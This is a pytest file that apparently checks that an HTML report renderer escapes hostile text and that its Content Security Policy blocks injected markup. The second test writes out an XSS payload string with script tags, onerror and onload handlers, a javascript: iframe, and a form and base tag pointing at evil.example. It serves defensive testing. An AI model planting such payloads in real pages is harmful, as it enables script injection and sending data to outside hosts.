"""Runs from a stranger in a report: nothing that they are called runs in the reader's browser."""

from __future__ import annotations

from pathlib import Path

import pytest

from ampscope.render.html import MAX_BYTES, to_html
from ampscope.store.reader import Reader
from ampscope.story.build import document
from ampscope.story.document import line, visible
from tests.helpers import offline_page, script_stores
from tests.helpers.hostile_runs import hostile_diagnosis, hostile_training
from tests.helpers.hostile_texts import HOSTILE


@pytest.mark.browser
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_runs_and_nothing_is_asked_for(tmp_path: Path, chromium: object, text: str) -> None:
    store, out = tmp_path / "runs.db", tmp_path / "report.html"
    runs = [hostile_diagnosis(store, text), hostile_training(store, text)]
    with Reader(store) as reader:
        content = to_html(document(reader, runs))
    out.write_text(content, encoding="utf-8")
    assert len(content.encode()) < MAX_BYTES
    with offline_page.opened(chromium, out) as watched:  # type: ignore[arg-type]  # a Browser
        page = watched.page
        assert page.evaluate("window.hacked") is None
        assert page.locator("article.part").count() == 2
        # One script and one style sheet of ours; the others are data that no browser runs.
        kinds = page.evaluate("[...document.scripts].map(s => s.type)")
        assert kinds.count("") == 1
        assert set(kinds) == {"", "application/json"}
        for tag in ("img", "iframe", "base", "link", "form", "h3", "b", "a[href^=javascript]"):
            assert page.locator(f"body {tag}").count() == 0
        handlers = (
            "[...document.querySelectorAll('*')].some(e => [...e.attributes].some("
            "a => a.name.startsWith('on') || a.name === 'style'))"
        )
        assert page.evaluate(handlers) is False
        # The name is read as it is: the text of the page holds it, spelled where it is invisible.
        shown = line(text, 300)[:120]
        assert shown in (page.locator("body").text_content() or "")
        chart = page.locator("figure.lines > svg").first
        chart.scroll_into_view_if_needed()
        chart.hover()
        for details in page.locator("details").all():
            details.locator("summary").first.click()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert watched.trouble == []


@pytest.mark.browser
def test_the_policy_stops_what_escaping_would_let_through(tmp_path: Path, chromium: object) -> None:
    """The last line of defence, tried: markup put in by hand neither runs, nor loads, nor sends."""
    store, out = tmp_path / "runs.db", tmp_path / "report.html"
    head = script_stores.no_fault(store)
    with Reader(store) as reader:
        content = to_html(document(reader, [head]))
    hostile = (
        "<script>window.hacked=1</script><img src=https://evil.example/x.png "
        "onerror='window.hacked=2'><svg onload='window.hacked=3'></svg>"
        "<iframe src='javascript:parent.hacked=4'></iframe><style>body{color:red}</style>"
        "<form action=https://evil.example><input name=a></form><base href=https://evil.example>"
    )
    out.write_text(content.replace("<main>", f"<main>{hostile}", 1), encoding="utf-8")
    with offline_page.opened(chromium, out) as watched:  # type: ignore[arg-type]
        page = watched.page
        page.wait_for_timeout(200)
        assert page.evaluate("window.hacked") is None
        assert page.evaluate("getComputedStyle(document.body).color") != "rgb(255, 0, 0)"
        page.evaluate("document.querySelector('form').submit()")
        page.wait_for_timeout(200)
        # Chromium reports what it stopped before it is sent; the reason is the policy, not the net.
        asked = [url for url in watched.requests if url.startswith("http")]
        assert {watched.failures.get(url) for url in asked} <= {"csp"}
        assert any("Content Security Policy" in error for error in watched.errors)


def test_what_is_invisible_is_spelled() -> None:
    assert visible("a\x1b[31m\u202eb\ud800\U000e0001") == r"a\x1b[31m\u202eb\ud800\U000e0001"
    assert (
        visible("tab\tand\nline stay, as do é 漢 and 😀")
        == "tab\tand\nline stay, as do é 漢 and 😀"
    )
    assert line(" a\n\tb \u2028 c ") == "a b c"
    cut = line("n" * 10_000)
    assert len(cut) < 400
    assert "9,700 characters" in cut
